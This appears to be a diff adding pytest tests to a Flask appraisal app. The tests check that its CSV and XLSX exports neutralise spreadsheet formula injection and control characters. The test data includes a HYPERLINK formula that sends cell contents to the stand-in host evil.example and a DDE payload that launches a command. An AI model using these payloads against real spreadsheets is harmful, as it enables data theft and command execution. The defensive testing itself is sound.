@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 
+from flask import url_for
 from openpyxl import load_workbook
 
 from appraisal.rules import score
@@ -99,3 +100,78 @@ def test_employees_export_is_in_the_import_format(client, auth, db, company):
     ]
     ann = next(r for r in rows if r["number"] == "A001")
     assert ann["manager_number"] == "B001" and ann["position"] == "Sales rep"
+
+
+HOSTILE = {
+    "ann": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "pat": "+1",
+    "quinn": "-2+3",
+    "olga": "@SUM(A1:A9)",
+    "oscar": "\x01Oscar\x02\x1b",
+    "bo": "\tBo",
+}
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _export_urls(app, cycle_id: int) -> list[str]:
+    """Every route that writes a spreadsheet (those with a csv/xlsx `fmt`), in both formats."""
+    urls = []
+    with app.test_request_context():
+        for rule in app.url_map.iter_rules():
+            if "fmt" not in rule.arguments:
+                continue
+            ids = {name: cycle_id for name in rule.arguments - {"fmt"}}
+            for fmt in ("csv", "xlsx"):
+                urls.append(url_for(rule.endpoint, fmt=fmt, **ids))
+    return sorted(urls)
+
+
+def test_no_export_writes_a_live_formula_or_breaks_on_control_characters(
+    app, client, auth, db, company, launched
+):
+    """Names that spreadsheets run as formulas reach every CSV and XLSX file as text: XLSX
+    cells are typed text (shown exactly as typed), CSV fields carry OWASP's apostrophe."""
+    for key, name in HOSTILE.items():
+        company.people[key].name = name
+    company.people["ann"].position.name = "=cmd|' /C calc'!A0"
+    company.people["ann"].email = "-ann@acme.example"
+    db.commit()
+    complete_ann(db, company)
+    auth.login("hr@acme.example")
+    urls = _export_urls(app, launched.id)
+    assert len(urls) == 6 and any("results" in u for u in urls)
+    for url in urls:
+        response = client.get(url)
+        assert response.status_code == 200, url
+        if url.endswith(".xlsx"):
+            sheet = load_workbook(io.BytesIO(response.data)).active
+            cells = [cell for row in sheet.iter_rows() for cell in row]
+            assert all(cell.data_type != "f" for cell in cells), url
+            texts = {cell.value for cell in cells if isinstance(cell.value, str)}
+        else:
+            rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
+            texts = {value for row in rows for value in row}
+            assert not [t for t in texts if t.startswith(FORMULA_START)], url
+        assert not any(ch in text for text in texts for ch in "\x00\x01\x02\x1b"), url
+        if "results" in url or "export" in url:
+            shown = {t.lstrip("'") for t in texts} if url.endswith(".csv") else texts
+            assert HOSTILE["ann"] in shown and "-2+3" in shown and "Oscar" in shown, url
+
+    csv_rows = list(
+        csv.DictReader(
+            io.StringIO(client.get(f"/cycles/{launched.id}/results.csv").data.decode("utf-8-sig"))
+        )
+    )
+    ann = next(r for r in csv_rows if r["employee_number"] == "A001")
+    assert ann["name"] == "'" + HOSTILE["ann"]
+    assert float(ann["total"]) > 0  # numbers stay numbers
+
+
+def test_a_negative_number_stays_a_number():
+    from appraisal.tables import csv_cell, to_xlsx
+
+    assert csv_cell(-2) == -2 and csv_cell(-2.5) == -2.5 and csv_cell("-2") == "'-2"
+    sheet = load_workbook(io.BytesIO(to_xlsx(["n", "t"], [[-2, "-2"]], "t"))).active
+    number, text = sheet["A2"], sheet["B2"]
+    assert number.value == -2 and number.data_type == "n"
+    assert text.value == "-2" and text.data_type == "s" and text.quotePrefix
